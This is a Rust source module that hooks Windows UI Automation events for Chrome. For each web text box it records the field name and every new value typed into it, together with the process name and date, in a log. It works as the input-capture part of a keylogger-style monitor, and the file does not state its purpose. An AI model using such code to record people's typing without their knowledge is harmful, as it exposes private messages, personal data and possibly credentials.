use std::sync::{Arc, Mutex};

use windows::Win32::UI::Accessibility::{
    IUIAutomationElement, UIA_AriaRolePropertyId, UIA_LegacyIAccessibleRolePropertyId,
    UIA_NamePropertyId, UIA_ValueValuePropertyId,
};

use crate::error::Result;
use crate::logger::Logger;
use super::common;
use super::PropertyHandlerFn;

const ROLE_SYSTEM_TEXT: i32 = 42;

/// Chrome surfaces typing as value changes on the focused web text
/// field; everything else falls back to the generic record.
pub fn create_chrome_handler(logger: Arc<Mutex<Logger>>) -> PropertyHandlerFn {
    Box::new(
        move |walker, element, process_name, date, property_id, new_value| match property_id {
            UIA_ValueValuePropertyId | UIA_NamePropertyId => {
                if !is_text_input(element) {
                    return common::handle_generic_property_change(
                        walker,
                        element,
                        process_name,
                        date,
                        property_id,
                        new_value,
                        &logger,
                    );
                }

                let field = common::element_name(element);
                let value = common::render_variant(new_value);

                let record = format!(
                    "{date} {process_name} [Chrome Input]\nField: {field}\nValue: {value}\n"
                );
                common::log_record(&logger, &record)
            }
            _ => common::handle_generic_property_change(
                walker,
                element,
                process_name,
                date,
                property_id,
                new_value,
                &logger,
            ),
        },
    )
}

fn is_text_input(element: &IUIAutomationElement) -> bool {
    let role = unsafe { element.GetCurrentPropertyValue(UIA_LegacyIAccessibleRolePropertyId) }
        .ok()
        .and_then(|value| i32::try_from(&value).ok());
    if role != Some(ROLE_SYSTEM_TEXT) {
        return false;
    }
    common::element_property(element, UIA_AriaRolePropertyId) == "textbox"
}
